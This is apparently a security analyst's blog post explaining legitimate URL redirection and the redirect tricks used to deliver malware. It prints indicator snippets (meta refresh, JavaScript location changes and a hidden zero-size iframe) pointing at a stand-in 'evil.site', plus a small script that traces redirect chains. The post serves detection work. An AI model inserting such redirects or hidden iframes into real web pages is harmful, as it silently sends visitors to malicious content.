URL Redirection, the good and the bad

URL redirection also called URL forwarding is not all malicious and has valid and acceptable uses. The technique allows servers toredirect a client request to a different location of a page, site or domain for legitimate reasons. In a redirect a web browser attempts to open a URL and that request is forwarded on to another location. Some of the legitimate reasons for URL redirection include:

Device targeting
A very common example of this is redirecting users to a mobile version of a website. If a user browses a site with a mobile client they could automatically be forwarded to a corresponding mobile version of a website.

Geo targeting
Typically seen on sites targeting larger audiences in more then one location essentially redirects users to more relevant localized content.

Removing referer details
When a link is clicked the browser sends the referer field which could contain sensitive URLs that end up in the server logs of an external site. for example, http://packetreport.com/future-plans would not be a desirable referer field leaving an organization, a redirection page would remove the exposure.

Similar domain names
Users might type in a misspelled domain such as packtereport.com and get redirected to our actual site packetreport.com. This safeguards both the audience as well as the organization.

Redirection Used in Exploits
As a security analyst we see this everyday of the week, a user suddenly sets off an IDS alert for touching a known malware site or bad domain. I am always curious to see why this happened and in most cases the user did one of three things clicked a link or opened a document in a phish or browsed a compromised site that has a malicious redirect configured. The following examples are not a complete list of techniques but the most common malicious redirects.

HTTP Redirects
The HTTP 3xx Redirection status code indicates the client must take additional action to complete the request. Many of these status codes are used in URL redirection the three most common are 301 MovedPermanently, 302 Found and 307 Temporary Redirection.

301 Moved Permanently This is known as a permanent redirect and is used to indicate that the originating URL has permanently moved to a new location.

302 Found Indicates the target resource residestemporarily under a different URI.

307 Temporary Redirect The target resource resides temporarily under a different URI and the user agent must not change the request method if it performs an automatic redirection to that URI.

HTML Redirects
This is a client-side redirection and tells the browser to request another page.

To create an HTML redirect page, you use the HTML meta tag, along with the ‘http-equiv’ and ‘content’ attributes. Meta Refresh is a special meta tag contained with the header section of the HTML source. This will refresh the page to the new site listed after the url field. The number after content attribute is the seconds to load, if set to 0 it redirects immediately as the page is loading.

What to look for:

  • <meta http-equiv=”Refresh” content=”0; url=http://www.evil.site/” />Javascript Redirects
A common method of redirecting users via JavaScript is performed without any user input. In JavaScripta redirect script uses the same code to load a page.

What to look for:

  • “text/javascript”>window.location=’http://evil.site’
  • “text/javascript”>window.location.reload(“http://evil.site”)
  • “text/javascript”>window.location.replace(“http://evil.site”)
  • “text/javascript”>document.location.href =’http://evil.site’

iframe/Frameset Redirects
This is a method where the content of another page is shown within an iframe or frameset, so that it looks like the content is part of the original URL. Especially dangerous are hidden iframe with a width and/or height values of 0 or a few pixels are hardly visible to the user.

What to look for:

  • <iframe src=”hxxp://evil.site/count.php?o=1″ width=0 height=0 style=”hidden” frameborder=0 marginheight=0 marginwidth=0 scrolling=no></iframe>These methods explained above are not new and revolutionary, hard to detect or very sneaky but they do work and malware authors will continue to use them in the future. Redirecting users to malicious content using http redirects or embedded iFrames is not going to trend downwards or cease to be a easy way to deliver malicious content anytime soon. Detecting the redirect using IDS signatures or black lists and blocking the subsequent chain is always key.



Python Script

Simple script that follows the HTTP redirections and displays the resulting HTTP Status Codes

—————–   http-redirect.py     ———-
import requests
r = requests.get(‘http://evil.site’)
for h in r.history:
print ‘[%s] %s’ % (h.status_code, h.url,)
print ‘[%s] %s’ % (r.status_code, r.url,)



2 thoughts on “URL Redirection, the good and the bad”

Leave a ReplyYour email address will not be published.